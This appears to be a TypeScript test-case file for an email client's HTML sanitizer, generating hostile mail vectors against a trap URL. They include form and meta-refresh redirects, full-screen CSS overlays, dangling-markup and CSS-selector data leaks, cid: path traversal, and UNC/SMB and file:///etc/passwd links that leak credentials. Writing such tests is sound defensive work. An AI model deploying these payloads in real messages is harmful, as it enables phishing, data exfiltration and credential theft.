import type { Attachment } from '../../../shared/model/message.ts';
import { fill, type HostileMail, type Trap, type Vector } from './case.ts';

/** B4: what would send something, or lead the frame elsewhere. The runner presses every button that is left. */
export function formsAndNavigation(trap: Trap): HostileMail[] {
  return fill('B4', 'form', trap, [
    '<form action="{u}"><input name=password type=password><input type=submit value=press></form>',
    '<form action="{u}" method=post enctype="text/plain" target=_top><button>press</button></form>',
    '<form id=f></form><button form=f formaction="{u}">press</button>',
    '<form action="{u}" target=_parent><input type=image src=x alt=press></form>',
    '<isindex action="{u}" prompt=x>',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<meta http-equiv=refresh content="0; {u}">',
    '<META HTTP-EQUIV="Refresh" CONTENT="0;URL=\'{u}\'">',
    '<head><meta http-equiv=refresh content="0;url={u}"></head><body>{p}</body>',
    '<base href="{u}/"><img src="a.png"><a href="b">follow me</a>',
    '<base target=_top><a href="{u}">follow me</a>',
    '<base target=_parent href="{u}"><a href="x">follow me</a>',
    '<a href="{u}" target=_top>follow me</a>',
    '<a href="{u}" target=_parent rel=opener>follow me</a>',
    '<a href="{u}" target=_self>follow me</a>',
    '<a href="{u}" download>follow me</a>',
    '<a href="{u}" download="x.exe" ping="{u}">follow me</a>',
    '<label for=x>follow me</label><a id=x href="{u}"></a>',
    '<input type=checkbox id=c><label for=c>follow me</label>',
    '<details><summary>follow me</summary><iframe src="{u}"></iframe></details>',
    '<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Content-Security-Policy content="default-src *">',
    '<meta http-equiv=X-UA-Compatible content="IE=7"><meta name=referrer content=unsafe-url><a href="{u}">follow me</a>',
    '<map name=m><area href="{u}" shape=default target=_top alt="follow me"></map><img usemap="#m" src="cid:x" alt=x>',
    '<dialog open><form method=dialog><button>press</button></form></dialog>',
  ]);
}

/** B5: what would cover, move or enlarge something outside of the message. */
export function escapes(trap: Trap): HostileMail[] {
  const over = 'top:-400px;left:-400px;width:3000px;height:3000px;background:#f0f;z-index:2147483647';
  const styles = [
    `position:fixed;${over}`,
    `position:fixed!important;inset:-900px;background:#f0f`,
    `position:absolute;${over}`,
    `position:sticky;${over}`,
    `position:-webkit-sticky;${over}`,
    `position:\\66ixed;${over}`,
    'transform:translate(-900px,-900px) scale(40);background:#f0f',
    'transform:scale(1000);transform-origin:0 0;background:#f0f',
    'translate:-900px -900px;scale:60;background:#f0f',
    'rotate:45deg;width:9000px;margin:-900px;background:#f0f',
    'margin:-2000px -2000px;padding:2000px;background:#f0f',
    'margin-top:-9999px;background:#f0f;height:20000px',
    'height:99999999px;background:#f0f',
    'height:100vh;min-height:100vh;background:#f0f',
    'height:1e9px;width:1e9px;background:#f0f',
    'width:9999999px;background:#f0f',
    'padding:99999px;background:#f0f',
    'font-size:9999px;line-height:9999px;color:#f0f',
    'box-shadow:0 0 0 9999px #f0f',
    'outline:9999px solid #f0f',
    'text-shadow:-900px -900px 0 #f0f,-300px -100px 90px #f0f',
    'filter:drop-shadow(-900px -900px 0 #f0f)',
    'text-indent:-9999px;background:#f0f',
    'float:left;margin-left:-9999px;width:99999px;background:#f0f;height:900px',
    'clip-path:none;overflow:visible;position:absolute;top:-999px;background:#f0f;height:5000px;width:5000px',
    'columns:1px;column-gap:9999px;background:#f0f',
    'zoom:100;background:#f0f',
    'zoom:0.0001',
    'anchor-name:--a;position-anchor:--a;position-area:top;background:#f0f',
    'resize:both;overflow:auto;background:#f0f',
    'writing-mode:vertical-rl;height:99999px;background:#f0f',
    'cursor:none;pointer-events:all;user-select:none;position:absolute;inset:0',
    '-webkit-app-region:drag;position:absolute;inset:0',
    'mix-blend-mode:difference;position:fixed;inset:-9px;background:#fff',
    'backdrop-filter:invert(1);position:fixed;inset:-99px',
    'view-transition-name:x;position:fixed;inset:0;background:#f0f',
    'display:none!important',
  ];
  const sheets = [
    'html{position:fixed;inset:-900px;background:#f0f}',
    'html,body{height:100vh!important;width:9000px!important}',
    'body{position:absolute!important;top:-9999px!important;height:9e9px!important}',
    'body{transform:scale(90)!important}',
    'html{zoom:50}body{zoom:50}',
    'iframe,#root,.interface,main,body *{position:fixed!important;inset:0!important}',
    ':root{--text:#f0f;--pane:#f0f;background:#f0f!important}',
    '::backdrop{background:#f0f}::view-transition{background:#f0f}',
    '@page{size:1px}html{scrollbar-gutter:stable;overflow:visible!important;scroll-behavior:smooth}',
    ':host{position:fixed}:host-context(body){display:none}::part(x){display:none}',
    '@media (min-height:1px){html,body{min-height:200vh!important;height:200vh!important}}',
    'body::after{content:"";position:fixed;inset:-900px;background:#f0f;display:block}',
  ];
  return fill('B5', 'escape', trap, [
    ...styles.map((style): Vector => `{p}<div style="${style}">cover</div>`),
    ...sheets.map((sheet): Vector => `<style>${sheet}</style>{p}<div>cover</div>`),
    '{p}<dialog open style="inset:-900px;background:#f0f">cover</dialog>',
    '{p}<div popover=manual style="display:block;inset:-900px;background:#f0f">cover</div>',
    '{p}<marquee direction=up scrollamount=900 height=99999 width=99999 bgcolor=#f0f>cover</marquee>',
    '{p}<table width=9999999 height=9999999 bgcolor=#f0f><td>cover</table>',
    '{p}<img width=9999999 height=9999999 hspace=9999 vspace=9999 src="cid:none">',
    '{p}<hr size=999999 width=999999 color=#f0f>',
    `{p}${'<br>'.repeat(20_000)}`,
    `{p}<pre>${'W'.repeat(50_000)}</pre>`,
    '{p}<div id=root class="interface pane toolbar" style="background:#f0f">cover</div>',
    '{p}<a name=x id=x>x</a><iframe width=9999 height=9999 style="position:fixed;inset:0"></iframe>',
  ]);
}

/** B6: what would reach another message or another part of this one. */
export function leaks(trap: Trap): HostileMail[] {
  return fill('B6', 'leak', trap, [
    '{p}<img src="{u}?',
    "{p}<img src='{u}?",
    '{p}<a href="{u}?',
    '{p}<form action="{u}"><textarea name=t>',
    '{p}<form action="{u}"><input name=x value="',
    '{p}<style>@import "{u}?',
    '{p}<style>*{background:url({u}?',
    '{p}<base href="{u}/"><base target="',
    '{p}<meta http-equiv=refresh content="0;url={u}?',
    '{p}<link rel=stylesheet href="{u}?',
    '{p}<object data="{u}?',
    '{p}<select><option>',
    '{p}<plaintext>',
    '{p}<!-- ',
    '{p}<script>x="',
    '<style>body{display:none!important}html{display:none}</style>{p}<style>body{display:block!important}html{display:block!important}</style>',
    '{p}<style>[data-curlew-quote]{display:block!important;color:red}html[data-quote]{display:none}</style>',
    '{p}<p data-curlew-quote data-plain data-tone=dark data-quote=hidden>x</p>',
    '{p}<input value="secret"><style>input[value^=s]{background:url({u}?s)}input[value^=t]{background:url({u}?t)}</style>',
    '{p}<style>@font-face{font-family:l;src:url({u}?a);unicode-range:U+61}p{font-family:l}</style>',
    '{p}<style>p{animation:k 1s}@keyframes k{0%{background:url({u}?0)}50%{background:url({u}?50)}}</style>',
    '{p}<style>@container style(--x:1){p{background:url({u})}}</style>',
    '{p}<style>a:visited{color:red;background:url({u})}</style><a href="https://bank.example/">x</a>',
  ]);
}

/** An attachment with a Content-ID, as the engine describes it. */
function part(partId: string, contentId: string, type = 'image/png'): Attachment {
  return { partId, filename: `part-${partId}.png`, type, size: 70, inline: true, contentId };
}

/** B7: `cid:` that names what it must not. */
export function inlineParts(trap: Trap): HostileMail[] {
  const own = [part('2', 'own@mail.example'), part('3', 'vector@mail.example', 'image/svg+xml')];
  return fill('B7', 'inline', trap, [
    { html: '<img src="cid:own@mail.example">', attachments: own },
    { html: '<img src="cid:vector@mail.example">', attachments: own },
    { html: '<img src="cid:other@mail.example"><img src="cid:">', attachments: own },
    { html: '<img src="content/inline/1/2"><img src="/content/inline/1/2">', attachments: own },
    { html: '<img src="content/attachment/1/2"><img src="content/remote?url={u}">', attachments: own },
    { html: '<img src="cid:../../../content/attachment/1/2">', attachments: own },
    { html: '<img src="cid:own@mail.example/../../9/2">', attachments: own },
    {
      html: '<img src="cid:%2e%2e%2f"><img src="cid:{u}"><img src="mid:x/own@mail.example">',
      attachments: own,
    },
    {
      html: '<img src="cid:twice@mail.example">',
      attachments: [part('2', 'twice@mail.example'), part('3', 'twice@mail.example')],
    },
    {
      html: '<iframe src="cid:own@mail.example"></iframe><object data="cid:own@mail.example">',
      attachments: own,
    },
    { html: '<a href="cid:own@mail.example">follow me</a>', attachments: own },
    { html: '<div style="background:url(cid:own@mail.example)">x</div>', attachments: own },
    {
      html: '<div style=\'background:url("cid:a\\22);background:url({u}")\'>x</div>',
      attachments: [part('2', 'a");background:url({u}')],
    },
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{u}%22/></svg>">',
    '<img src="data:text/html,<img src={u}>"><img src="data:,x">',
    '<img src="data:image/png;base64,iVBORw0KGgo=;url={u}">',
  ]);
}

/** B12: names of shares and files, and whatever else makes a system send the person's credentials. */
export function shares(trap: Trap): HostileMail[] {
  const targets = [
    'file://{domain}/share/a.png',
    'file:////{domain}/share/a.png',
    'file:///etc/passwd',
    '\\\\{domain}\\share\\a.png',
    '//\\{domain}/share/a.png',
    '/\\{domain}/share/a.png',
    'smb://{domain}/share/a.png',
    'SMB:\\\\{domain}\\share',
    'ftp://{domain}/a.png',
    'webdav://{domain}/a.png',
    'ldap://{domain}/x',
    'search-ms:query=a&crumb=location:\\\\{domain}\\x',
    'ms-word:ofe|u|\\\\{domain}\\x.docx',
    'unknown-scheme://{domain}/x',
  ];
  return fill(
    'B12',
    'share',
    trap,
    targets.flatMap((target) => [
      `<img src="${target}">`,
      `<a href="${target}">follow me</a>`,
      `<div style="background:url('${target.replaceAll('\\', '\\\\')}')">x</div>`,
    ]),
  );
}
